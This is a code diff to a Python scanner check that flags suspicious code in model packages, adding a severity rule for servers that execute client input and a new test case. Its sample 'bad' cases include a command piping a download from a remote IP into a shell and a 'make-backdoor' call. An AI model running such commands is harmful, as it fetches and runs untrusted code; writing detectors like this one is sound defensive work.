@@ -36,7 +36,9 @@ class SuspiciousCode(Check):
     arithmetic and calls between the module's own functions, so that a call is judged by what is really called with what. Two
     questions decide. *Where do the arguments come from?* Code or commands that were decoded (base64, hex, compression,
     character codes, exclusive or) or fetched from the network, a socket as a program's standard input, credentials handed to
-    a network call: `critical` on import or load, `high` in functions and in notebooks, whenever they may run. *When does it
+    a network call: `critical` on import or load, `high` in functions and in notebooks, whenever they may run. A handler that
+    runs what a client of the model server sent, as code, as a command or as the name of a module, is `high`; one that
+    unpickles it, and a web page that runs it, is `medium`. *When does it
     run?* A command, a connection, a download, reading credentials or writing start-up files is ordinary inside a function
     and is not reported there; at import it is `high` (writing what opens a door later: `critical`). Commands that only ask
     the machine something (`git rev-parse`, `uname`, `nvidia-smi`) are not reported. Code in a model's own start-up path is
@@ -72,7 +74,7 @@ class SuspiciousCode(Check):
             return
         if intent.severity is Severity.MEDIUM and not self.unknown_commands:
             return
-        severity = intent.severity if eager or not anyway else Severity.HIGH
+        severity = intent.severity if eager or not anyway else min(intent.severity, Severity.HIGH)
         moment = {Moment.LOAD: "when it is loaded", Moment.IMPORT: "when it is imported", Moment.USE: "when it is used"}[
             fact.when
         ]
@@ -95,6 +97,7 @@ class SuspiciousCode(Check):
         yield Call(place, _EXEC, (hidden,), (), "call", "python", Moment.USE)
         yield Call(place, Symbol("os", "system"), ("curl http://198.51.100.7/x | sh",), (), "call", "python", Moment.USE)
         yield Call(place, Symbol("subprocess", "run"), ("make-backdoor --now",), (), "call", "python", Moment.IMPORT)
+        yield Call(place, _EXEC, (Result(Symbol("serving", "request"), ("...",)),), (), "call", "python", Moment.USE)
 
     @classmethod
     def good(cls) -> Iterator[Fact]:
